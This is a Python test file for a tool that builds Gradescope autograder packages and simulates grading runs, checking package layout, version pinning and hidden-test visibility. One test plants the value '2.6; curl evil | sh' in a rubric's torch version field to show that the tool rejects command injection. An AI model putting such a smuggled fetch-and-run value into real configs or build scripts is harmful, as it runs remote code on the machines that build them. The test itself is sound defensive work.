"""The Gradescope package: its layout, and run_autograder in a temporary tree laid out like /autograder."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import jsonschema
import pytest

from conftest import PROJECT, TINY
from grader.authoring.gradescope import build_package
from grader.cli import main
from grader.rubric import find_rubric

SCHEMA = json.loads((PROJECT / "tests" / "fixtures" / "gradescope_results.schema.json").read_text())
GOOD = "import torch\ndef mean(x):\n    return x.mean()\ndef clip(x, lo, hi):\n    return x.clamp(lo, hi)\n"


@pytest.fixture(scope="module")
def package(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("pkg") / "autograder.zip"
    assert main(["gradescope", "-o", str(out), "--rubric", str(TINY), "--no-check"]) == 0
    return out


def test_package_layout(package):
    with zipfile.ZipFile(package) as zf:
        names = set(zf.namelist())
        modes = {i.filename: i.external_attr >> 16 for i in zf.infolist()}
        setup = zf.read("setup.sh").decode()
        run = zf.read("run_autograder").decode()
        requirements = zf.read("requirements.txt").decode()
    assert {"setup.sh", "run_autograder", "requirements.txt", "grader/pipeline.py", "grader/inside/worker.py",
            "rubrics/tiny/rubric.toml", "rubrics/tiny/test_tiny.py"} <= names
    reference = find_rubric_reference()
    assert reference in names  # at the path the rubric names, relative to the package root
    for script in ("setup.sh", "run_autograder"):
        assert modes[script] & stat.S_IXUSR and stat.S_ISREG(modes[script])
    assert "--index-url https://download.pytorch.org/whl/cpu" in setup and "bubblewrap" in setup
    assert "torchvision.datasets.MNIST" not in setup  # the tiny assignment needs no data
    assert "rubrics/tiny" in run and 'AUTOGRADER_ROOT:-/autograder' in run
    assert not any("__pycache__" in n or n.startswith("tests/") for n in names)
    assert not any("/mutants/" in n for n in names)  # for `grade check` only
    # torch and torchvision pinned to what was installed at build time (the CPU build of that version).
    from importlib.metadata import version

    assert f"torch=={version('torch').split('+')[0]} torchvision=={version('torchvision').split('+')[0]} " in setup
    # Only what grading imports: no batch report (matplotlib, jinja2), no LMS readers (yaml).
    assert "pytest" in requirements and "nbformat" in requirements
    assert not any(x in requirements for x in ("matplotlib", "jinja2", "pyyaml", "nbclient"))


def test_the_rubric_names_the_torch_versions(tmp_path):
    import shutil

    from grader.authoring.gradescope import package_files
    from grader.errors import ConfigError
    from grader.rubric import load_rubric

    course = tmp_path / "course"
    shutil.copytree(TINY.parent.parent, course)
    toml = course / "rubrics" / "tiny" / "rubric.toml"
    toml.write_text(toml.read_text() + '\n[environment]\ntorch = "2.6.0"\ntorchvision = "0.21.0"\n')
    setup = package_files(load_rubric(toml))["setup.sh"]
    assert "pip\" install torch==2.6.0 torchvision==0.21.0 --index-url" in setup
    toml.write_text(toml.read_text().replace('"2.6.0"', '"2.6; curl evil | sh"'))
    with pytest.raises(ConfigError, match="not a version"):
        package_files(load_rubric(toml))
    toml.write_text(toml.read_text() + 'numpy = "2.0"\n')
    with pytest.raises(ConfigError, match=r"\[environment\]"):
        load_rubric(toml)


def test_the_memory_notice_only_for_assignments_that_need_mnist(tmp_path, capsys):
    assert main(["gradescope", "-o", str(tmp_path / "t.zip"), "--rubric", str(TINY), "--no-check"]) == 0
    assert "GB of memory" not in capsys.readouterr().out
    assert main(["gradescope", "-o", str(tmp_path / "m.zip"), "--assignment", "mnist_mlp", "--no-check"]) == 0
    assert "at least 3 GB of memory" in capsys.readouterr().out


@pytest.mark.slow
def test_gradescope_test_runs_the_built_package_on_the_reference_and_the_release(tmp_path, capsys):
    out = tmp_path / "autograder.zip"
    assert main(["gradescope", "-o", str(out), "--rubric", str(TINY), "--test"]) == 0
    text = capsys.readouterr().out
    assert "check passed" in text  # `grade check` first
    assert "ok   reference: 5/5" in text and "ok   release: 0/5" in text and out.is_file()


def test_a_broken_package_fails_its_trial(package, tmp_path):
    from grader.authoring.gradescope import try_package
    from grader.rubric import load_rubric

    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(package) as src, zipfile.ZipFile(broken, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, b"not a rubric [" if info.filename.endswith("rubric.toml") else data)
    trials = try_package(broken, load_rubric(TINY))
    assert [t.role for t in trials] == ["reference", "release"]
    assert all(t.problem and "grader error" in t.problem and "not valid TOML" in t.problem for t in trials)


def find_rubric_reference() -> str:
    from grader.rubric import load_rubric

    r = load_rubric(TINY)
    return r.reference.relative_to(TINY.parent.parent).as_posix()


def test_package_of_the_mnist_assignment_fetches_mnist_at_build_time(tmp_path):
    names = build_package(find_rubric("mnist_mlp"), tmp_path / "a.zip")
    setup = zipfile.ZipFile(tmp_path / "a.zip").read("setup.sh").decode()
    assert "torchvision.datasets.MNIST" in setup and "rubrics/mnist_mlp/rubric.toml" in names
    assert "reference_solution/mnist_mlp/mnist_mlp.ipynb" in names


def autograder_tree(package: Path, root: Path, submission: dict[str, str]) -> Path:
    """A temporary tree laid out like /autograder: source/ (the unpacked zip), submission/, results/."""
    (root / "source").mkdir(parents=True)
    with zipfile.ZipFile(package) as zf:
        zf.extractall(root / "source")
    (root / "submission").mkdir()
    for name, text in submission.items():
        (root / "submission" / name).write_text(text)
    return root


def run_autograder(root: Path, python: str = sys.executable) -> tuple[subprocess.CompletedProcess, dict]:
    env = {**os.environ, "AUTOGRADER_ROOT": str(root), "AUTOGRADER_PYTHON": python}
    env.pop("PYTHONPATH", None)
    r = subprocess.run(["bash", str(root / "source" / "run_autograder")], capture_output=True, text=True,
                       env=env, timeout=300)
    data = json.loads((root / "results" / "results.json").read_text())
    jsonschema.validate(data, SCHEMA)
    return r, data


@pytest.mark.slow
def test_simulated_autograder_grades_a_correct_submission(package, tmp_path):
    printing = GOOD.replace("    return x.mean()", "    print('mean debug line', flush=True)\n    return x.mean()")
    printing = printing.replace("    return x.clamp", "    print('secret debug line', flush=True)\n    return x.clamp")
    root = autograder_tree(package, tmp_path / "autograder", {"tiny.py": printing})
    r, data = run_autograder(root)
    assert r.returncode == 0
    assert data["score"] == 5 and data["stdout_visibility"] == "hidden"
    assert {t["name"]: t["visibility"] for t in data["tests"]} == {"mean": "visible", "clip": "hidden"}
    assert "Total: 5 / 5" in r.stdout  # the full report, hidden checks included, is for instructors only
    # All the submission printed goes to stdout (instructors); students see only what it printed in
    # visible checks (a hidden check's inputs could be echoed), and no isolation details.
    assert "secret debug line" in r.stdout and "secret debug line" not in json.dumps(data)
    assert "mean debug line" in data["output"] and "Isolation" not in data["output"]
    assert "Isolation: " in r.stdout
    # Hidden suites and the reference are readable by root only inside the container.
    assert stat.S_IMODE((root / "source" / "rubrics" / "tiny").stat().st_mode) & 0o077 == 0


@pytest.mark.slow
def test_simulated_autograder_grades_a_broken_submission(package, tmp_path):
    root = autograder_tree(package, tmp_path / "autograder", {"tiny.py": "def mean(x)\n    return x.mean(\n"})
    r, data = run_autograder(root)
    assert r.returncode == 0
    assert data["score"] == 0 and sum(t["max_score"] for t in data["tests"]) == 5
    assert all(t["name"] != "grader error" for t in data["tests"])


def test_autograder_writes_a_grader_error_when_the_grader_fails(package, tmp_path):
    root = autograder_tree(package, tmp_path / "autograder", {"tiny.py": GOOD})
    (root / "source" / "rubrics" / "tiny" / "rubric.toml").write_text("this is [not toml")
    r, data = run_autograder(root)
    assert r.returncode == 0 and data["score"] == 0
    (error,) = data["tests"]
    assert error["name"] == "grader error" and error["visibility"] == "visible"
    assert "not valid TOML" in data["extra_data"]["grader_error"]
    assert "Traceback" in r.stdout  # the details go to instructors


def test_autograder_writes_a_result_even_when_python_cannot_start(package, tmp_path):
    root = autograder_tree(package, tmp_path / "autograder", {"tiny.py": GOOD})
    r, data = run_autograder(root, python=str(tmp_path / "no-such-python"))
    assert r.returncode == 0 and data["score"] == 0
    assert data["tests"][0]["name"] == "grader error"
    assert "wrote the fallback" in r.stdout
